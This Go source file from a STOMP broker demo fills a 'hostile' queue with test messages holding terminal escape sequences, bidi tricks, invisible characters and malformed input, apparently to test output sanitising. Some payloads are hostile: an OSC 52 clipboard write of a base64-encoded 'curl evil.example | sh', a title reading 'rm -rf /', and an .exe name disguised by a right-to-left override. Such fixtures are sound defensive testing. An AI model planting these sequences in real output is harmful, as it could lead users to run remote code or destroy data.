package broker

import (
	"strings"

	"stompbox/stomp"
)

// hostile fills /queue/hostile with what must never reach a terminal as it is
// (R240 to R242): each message shows one kind, in headers and in the body.
func (d *demo) hostile() {
	add := func(kind, name, value, body string) {
		h := stomp.NewHeader("content-type", "text/plain", "kind", kind)
		h.Add(name, value)
		d.send(hostileQueue, h, []byte(body))
	}
	add("colours and clearing", "x-\x1b[31mred", "\x1b[2J\x1b[H\x1b[5;41mOWNED\x1b[0m",
		"\x1b[2J\x1b[1;1H\x1b[31;1mAll your orders are gone.\x1b[0m\x1b[8mhidden\x1b[28m\r\nback\x08\x08\x08\x08over\x07\n")
	add("clipboard and title (OSC)", "x-title", "\x1b]0;rm -rf /\x07",
		"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07paste me\x1b]0;another title\x1b\\\x1b]8;;http://evil.example/\x1b\\a link\x1b]8;;\x1b\\\n")
	add("8-bit controls (C1)", "x-c1", "\u009b31mred\u009d0;title\u009c", "utf-8: \u009b2J\u009d52;c;AAAA\u009c raw: \x9b31m \x90q\x9c \x85next line\n")
	add("unterminated", "x-cut", "\x1b]52;c;", "text and then \x1bP+q544e")
	add("bidi overrides", "x-file", "invoice\u202exslx.exe", "amount \u202e00.001\u202c EUR, \u2066isolated\u2069 \u200fright\u200e\nuser\u202e \u2066// admin\u2069 \u2066\n")
	add("invisible and stacked", "x-ad\u200bmin", "/queue/ord\u200bers\u00ad\ufeff", "Z"+strings.Repeat("\u0300\u0301\u0302\u0489", 200)+"algo \u2060\u180e\ufe0f\U000e0041\U000e0042\n")
	add("modes and replies", "x-mode", "\x1b[?1049h\x1b[?1000h\x1b[?25l", "\x1b[6n\x1b[c\x1b[>c\x1b[?2004h\x1b[20h\x1bc\x0e\x0f\x1b(0lqqk\x1b(B\n")
	add("invalid utf-8", "x-bytes", "\xff\xfe\xc0\xaf", "\xf0\x28\x8c\x28 \xed\xa0\x80 \xc0\x80 \xf8\x88\x80\x80\x80 end\n")
	add("line breaks", "x-split", "first\nsecond:fake\r\nthird", "a\rb\nc\r\nd\ve\ff\u2028g\u2029h\ttab\n")
	add("one very long line", "x-long", strings.Repeat("long-header-", 800), strings.Repeat("0123456789abcdef", 16<<10))
	add("wide and joined", "x-wide", "全角文字の見出し 👩‍👩‍👧‍👦🏳️‍🌈", "全角 ｆｕｌｌ ﷽ 👨‍👩‍👧‍👦 e\u0301 ｶﾞ 🇩🇰🇯🇵 ☎️ \u1f468\n")
}
